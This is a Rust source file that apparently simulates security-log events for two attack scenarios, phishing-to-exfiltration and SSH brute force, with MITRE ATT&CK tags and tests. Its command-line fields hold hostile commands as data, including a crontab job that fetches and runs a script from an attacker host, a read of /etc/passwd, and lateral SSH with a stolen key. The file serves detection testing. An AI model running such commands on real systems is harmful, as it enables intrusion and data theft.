//! Attacks as values: stages of steps, each an event. One is started as often as one likes.

use std::time::Duration;

use super::{
    Made,
    draws::Draws,
    event::{Event, Part, Severity},
    site::{Host, Site, User, foreign, private},
};
use crate::clock::Nanos;

/// An attack.
#[derive(Debug)]
pub struct Scenario {
    /// As events and the command line name it.
    pub kind: &'static str,
    /// As a person reads it.
    pub name: &'static str,
    pub stages: &'static [Stage],
}

/// A stage of an attack.
#[derive(Debug)]
pub struct Stage {
    pub name: &'static str,
    steps: &'static [Step],
}

/// An event, once or until it is enough.
#[derive(Debug)]
struct Step {
    event: fn(&mut Cast, &mut Draws) -> Event,
    /// Whether the step is done after that event.
    is_done: fn(&Cast) -> bool,
}

const fn once(event: fn(&mut Cast, &mut Draws) -> Event) -> Step {
    Step { event, is_done: |_| true }
}

/// Every scenario.
pub static ALL: &[Scenario] = &[
    Scenario {
        kind: "data_exfiltration",
        name: "Data Exfiltration",
        stages: &[
            Stage { name: "initial_access", steps: &[once(mail), once(document), once(shell_of_document)] },
            Stage { name: "discovery", steps: &[once(system_information), once(network_configuration), once(file_search)] },
            Stage { name: "collection", steps: &[once(file_read), once(archive)] },
            Stage { name: "exfiltration", steps: &[Step { event: transfer, is_done: |cast| cast.moved >= cast.to_move }] },
        ],
    },
    Scenario {
        kind: "brute_force",
        name: "Brute Force Attack",
        stages: &[
            Stage { name: "reconnaissance", steps: &[once(probe), once(user_probe)] },
            Stage { name: "brute_force", steps: &[Step { event: attempt, is_done: |cast| cast.attempts == 0 }] },
            Stage { name: "initial_access", steps: &[once(remote_shell), once(crontab)] },
            Stage { name: "lateral_movement", steps: &[once(scan_inside), once(next_host)] },
        ],
    },
];

/// The scenario of that name.
pub fn named(kind: &str) -> Option<&'static Scenario> {
    ALL.iter().find(|scenario| scenario.kind == kind)
}

/// An attack ends after so long in any case.
pub const LASTS_MAX: Duration = Duration::from_secs(30 * 60);

/// Who takes part, and what was done so far.
#[derive(Clone, Debug)]
struct Cast {
    host: Host,
    user: User,
    /// Where it comes from, or where data goes.
    attacker: String,
    /// Bytes that went out, and that are to go.
    moved: u64,
    to_move: u64,
    /// Logins still to be tried.
    attempts: u64,
    /// The last login succeeds.
    gets_in: bool,
    /// Nothing more can be done.
    gives_up: bool,
}

/// One attack that goes on.
#[derive(Clone, Debug)]
pub(super) struct Active {
    scenario: &'static Scenario,
    id: u64,
    begun: Nanos,
    stage: usize,
    step: usize,
    cast: Cast,
}

impl Active {
    /// - `id`: its number.
    pub(super) fn new(scenario: &'static Scenario, id: u64, now: Nanos, site: &Site, draws: &mut Draws) -> Self {
        let cast = Cast {
            host: site.host(draws).clone(),
            user: site.user(draws).clone(),
            attacker: foreign(draws),
            moved: 0,
            to_move: draws.from(50 << 10, 200 << 10),
            attempts: draws.from(10, 30),
            gets_in: draws.percent(70),
            gives_up: false,
        };
        Self { scenario, id, begun: now, stage: 0, step: 0, cast }
    }

    /// Its next event; `None` once it has ended.
    pub(super) fn next(&mut self, now: Nanos, draws: &mut Draws) -> Option<Made> {
        let Scenario { kind, name, stages } = self.scenario;
        let stage = stages.get(self.stage)?;
        if self.cast.gives_up || u128::from(now.saturating_sub(self.begun)) > LASTS_MAX.as_nanos() {
            return None;
        }
        let step = stage.steps.get(self.step)?;
        let part = Part { id: self.id, kind, name, stage: self.stage };
        let made = (step.event)(&mut self.cast, draws).made(now, Some(part));
        if (step.is_done)(&self.cast) {
            self.step += 1;
            if self.step == stage.steps.len() {
                (self.stage, self.step) = (self.stage + 1, 0);
            }
        }
        Some(made)
    }
}

const POWERSHELL: [&str; 2] = ["powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"];
const CMD: [&str; 2] = ["cmd.exe", r"C:\Windows\System32\cmd.exe"];
const WORD: [&str; 2] = ["winword.exe", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"];
const EXPLORER: [&str; 2] = ["explorer.exe", r"C:\Windows\explorer.exe"];
const BASH: [&str; 2] = ["bash", "/bin/bash"];

/// A process of the attacked user.
fn process(cast: &Cast, [name, path]: [&str; 2], [parent, parent_path]: [&str; 2], command: &str, draws: &mut Draws) -> Event {
    let id = |draws: &mut Draws| draws.from(1000, 65_535);
    Event::of_host("process", &cast.host)
        .text("host_name", &cast.host.name)
        .text("user_name", &cast.user.name)
        .text("process_name", name)
        .text("process_path", path)
        .bare("process_id", id(draws))
        .text("parent_process_name", parent)
        .text("parent_process_path", parent_path)
        .bare("parent_process_id", id(draws))
        .text("command_line", command)
}

fn mail(cast: &mut Cast, _: &mut Draws) -> Event {
    Event::of_user("email", &cast.user)
        .text("user_name", &cast.user.name)
        .text("email_subject", format!("New rules for {}, please read today", cast.user.department))
        .text("email_from", "support@mail.invalid")
        .text("email_to", format!("{}@example.com", cast.user.name))
        .bare("has_attachment", true)
        .text("attachment_name", "rules.docx")
        .marked(Severity::Medium, "mail from outside with a document that has macros", &["T1566.001"])
}

fn document(cast: &mut Cast, draws: &mut Draws) -> Event {
    let command = format!(r#""{}" "C:\Users\{}\Downloads\rules.docx""#, WORD[1], cast.user.name);
    process(cast, WORD, EXPLORER, &command, draws).marked(Severity::High, "a document from a mail was opened", &["T1204.002"])
}

fn shell_of_document(cast: &mut Cast, draws: &mut Draws) -> Event {
    process(cast, CMD, WORD, "cmd.exe /c powershell.exe -EncodedCommand UwB0AGEAcgB0AA==", draws).marked(
        Severity::High,
        "a document started a command shell",
        &["T1059.003"],
    )
}

fn system_information(cast: &mut Cast, draws: &mut Draws) -> Event {
    process(cast, CMD, POWERSHELL, "cmd.exe /c systeminfo", draws).marked(Severity::Medium, "asks what system this is", &["T1082"])
}

fn network_configuration(cast: &mut Cast, draws: &mut Draws) -> Event {
    process(cast, CMD, POWERSHELL, "cmd.exe /c ipconfig /all & route print & arp -a", draws).marked(
        Severity::Medium,
        "asks how this host is connected",
        &["T1016"],
    )
}

fn file_search(cast: &mut Cast, draws: &mut Draws) -> Event {
    process(cast, CMD, POWERSHELL, r"cmd.exe /c dir /s /b C:\Users\*password*", draws).marked(
        Severity::Medium,
        "searches for files with passwords",
        &["T1083"],
    )
}

fn file_read(cast: &mut Cast, draws: &mut Draws) -> Event {
    Event::of_host("file", &cast.host)
        .text("host_name", &cast.host.name)
        .text("user_name", &cast.user.name)
        .text("file_path", format!(r"C:\Users\{}\Documents\passwords.xlsx", cast.user.name))
        .text("file_name", "passwords.xlsx")
        .text("file_extension", ".xlsx")
        .text("action", "accessed")
        .text("process_name", POWERSHELL[0])
        .text("process_path", POWERSHELL[1])
        .bare("process_id", draws.from(1000, 65_535))
        .marked(Severity::High, "a program that is no office read a sensitive file", &["T1005"])
}

fn archive(cast: &mut Cast, draws: &mut Draws) -> Event {
    let folder = format!(r"C:\Users\{}\Documents", cast.user.name);
    let command = format!(r"powershell.exe -Command Compress-Archive -Path '{folder}\*' -DestinationPath '{folder}\d.zip'");
    process(cast, POWERSHELL, CMD, &command, draws).marked(Severity::High, "documents were packed into one file", &["T1560.001"])
}

fn transfer(cast: &mut Cast, draws: &mut Draws) -> Event {
    let bytes = draws.from(10_000, 50_000);
    cast.moved += bytes;
    Event::of_host("network_connection", &cast.host)
        .text("host_name", &cast.host.name)
        .text("user_name", &cast.user.name)
        .text("source_ip", &cast.host.address)
        .text("destination_ip", &cast.attacker)
        .bare("destination_port", 8443)
        .text("protocol", "TCP")
        .bare("bytes_sent", bytes)
        .bare("bytes_received", draws.from(500, 2000))
        .bare("connection_duration", draws.from(10, 60))
        .marked(Severity::Critical, "much data went to an address outside", &["T1041"])
}

fn probe(cast: &mut Cast, draws: &mut Draws) -> Event {
    Event::of_host("network_connection", &cast.host)
        .text("host_name", &cast.host.name)
        .text("source_ip", &cast.attacker)
        .text("destination_ip", &cast.host.address)
        .bare("destination_port", 22)
        .text("protocol", "TCP")
        .bare("bytes_sent", draws.from(100, 500))
        .bare("bytes_received", draws.from(100, 500))
        .bare("connection_duration", draws.from(1, 5))
        .marked(Severity::Low, "an address outside tries ports", &["T1046"])
}

/// A login over SSH from outside.
fn ssh(cast: &Cast, user: &str, is_in: bool) -> Event {
    let event = Event::of_host("authentication", &cast.host)
        .text("host_name", &cast.host.name)
        .text("user_name", user)
        .text("authentication_type", "SSH")
        .text("authentication_status", if is_in { "success" } else { "failure" })
        .text("source_ip", &cast.attacker);
    if is_in { event } else { event.text("failure_reason", "invalid_credentials") }
}

fn user_probe(cast: &mut Cast, draws: &mut Draws) -> Event {
    let user = *draws.one(&["admin", "root", "test", "oracle"]);
    ssh(cast, user, false).marked(Severity::Medium, "tries names of users", &["T1087"])
}

fn attempt(cast: &mut Cast, _: &mut Draws) -> Event {
    cast.attempts -= 1;
    let is_in = cast.attempts == 0 && cast.gets_in;
    cast.gives_up = cast.attempts == 0 && !is_in;
    let reason = if is_in { "a password was guessed after many attempts" } else { "one of many attempts to guess a password" };
    ssh(cast, &cast.user.name, is_in).marked(Severity::High, reason, &["T1110.001"])
}

fn remote_shell(cast: &mut Cast, draws: &mut Draws) -> Event {
    process(cast, BASH, ["sshd", "/usr/sbin/sshd"], "bash -c 'id; uname -a; cat /etc/passwd'", draws).marked(
        Severity::High,
        "commands right after a password was guessed",
        &["T1059.004"],
    )
}

fn crontab(cast: &mut Cast, draws: &mut Draws) -> Event {
    let command = format!("bash -c 'echo \"*/5 * * * * curl -s http://{}/u.sh | bash\" | crontab -'", cast.attacker);
    process(cast, BASH, ["sshd", "/usr/sbin/sshd"], &command, draws).marked(
        Severity::Critical,
        "a job fetches and runs a script",
        &["T1053.003"],
    )
}

fn scan_inside(cast: &mut Cast, draws: &mut Draws) -> Event {
    let command = format!("nmap -sS -p 22,445,3389 {}/24", cast.host.address);
    process(cast, ["nmap", "/usr/bin/nmap"], BASH, &command, draws).marked(Severity::High, "scans the network from inside", &["T1046"])
}

fn next_host(cast: &mut Cast, draws: &mut Draws) -> Event {
    let command = format!("ssh -i /tmp/.k root@{}", private(draws));
    process(cast, ["ssh", "/usr/bin/ssh"], BASH, &command, draws).marked(Severity::Critical, "goes on to another host", &["T1021.004"])
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The events of one attack, a second between two.
    fn all(scenario: &'static Scenario, seed: u64) -> Vec<serde_json::Value> {
        let mut draws = Draws::new(seed);
        let site = Site::new(&mut draws, 4, 4);
        let mut active = Active::new(scenario, 7, 0, &site, &mut draws);
        let mut events = Vec::new();
        while let Some(made) = active.next(events.len() as u64 * 1_000_000_000, &mut draws) {
            events.push(serde_json::from_slice(&made.json).expect("JSON"));
        }
        events
    }

    fn techniques(events: &[serde_json::Value]) -> Vec<&str> {
        events.iter().map(|event| event["mitre_attack"]["techniques"][0]["id"].as_str().expect("an id")).collect()
    }

    #[test]
    fn data_go_out_after_access_discovery_and_collection() {
        for seed in 0..20 {
            let events = all(named("data_exfiltration").expect("known"), seed);
            let known = ["T1566.001", "T1204.002", "T1059.003", "T1082", "T1016", "T1083", "T1005", "T1560.001"];
            assert_eq!(techniques(&events)[..8], known);
            assert!(techniques(&events)[8..].iter().all(|id| *id == "T1041"));
            let stages: Vec<u64> = events.iter().map(|event| event["scenario_stage"].as_u64().expect("a number")).collect();
            assert_eq!(stages[..9], [0, 0, 0, 1, 1, 1, 2, 2, 3]);
            let sent: Vec<u64> = events[8..].iter().map(|event| event["bytes_sent"].as_u64().expect("a number")).collect();
            assert!(sent.iter().all(|bytes| (10_000..=50_000).contains(bytes)), "{sent:?}");
            let (sum, last) = (sent.iter().sum::<u64>(), sent.last().expect("one"));
            assert!(sum >= 50 << 10 && sum - last < 200 << 10, "{sent:?}");
            assert_eq!((&events[0]["scenario_id"], &events[0]["scenario_name"]), (&"scenario-0007".into(), &"Data Exfiltration".into()));
        }
    }

    #[test]
    fn a_guessed_password_lets_the_attack_go_on_and_one_that_is_not_guessed_ends_it() {
        let mut got_in = 0;
        for seed in 0..200 {
            let events = all(named("brute_force").expect("known"), seed);
            let ids = techniques(&events);
            assert_eq!(ids[..2], ["T1046", "T1087"]);
            let attempts: Vec<&serde_json::Value> = events.iter().filter(|event| event["scenario_stage"] == 1).collect();
            assert!((10..=30).contains(&attempts.len()), "{}", attempts.len());
            let (last, before) = attempts.split_last().expect("one");
            assert!(before.iter().all(|event| event["authentication_status"] == "failure" && event["failure_reason"].is_string()));
            let rest = &ids[2 + attempts.len()..];
            if last["authentication_status"] == "success" {
                got_in += 1;
                assert_eq!(rest, ["T1059.004", "T1053.003", "T1046", "T1021.004"]);
            } else {
                assert!(rest.is_empty(), "{rest:?}");
            }
        }
        assert!((120..160).contains(&got_in), "{got_in} of 200");
    }

    #[test]
    fn an_attack_ends_after_half_an_hour_whatever_it_has_done() {
        let mut draws = Draws::new(1);
        let site = Site::new(&mut draws, 2, 2);
        let mut active = Active::new(&ALL[0], 1, 0, &site, &mut draws);
        let lasts = u64::try_from(LASTS_MAX.as_nanos()).expect("fits");
        assert!(active.next(lasts, &mut draws).is_some() && active.next(lasts + 1, &mut draws).is_none());
        assert_eq!(ALL.iter().map(|scenario| scenario.stages.len()).collect::<Vec<_>>(), [4, 4]);
    }
}
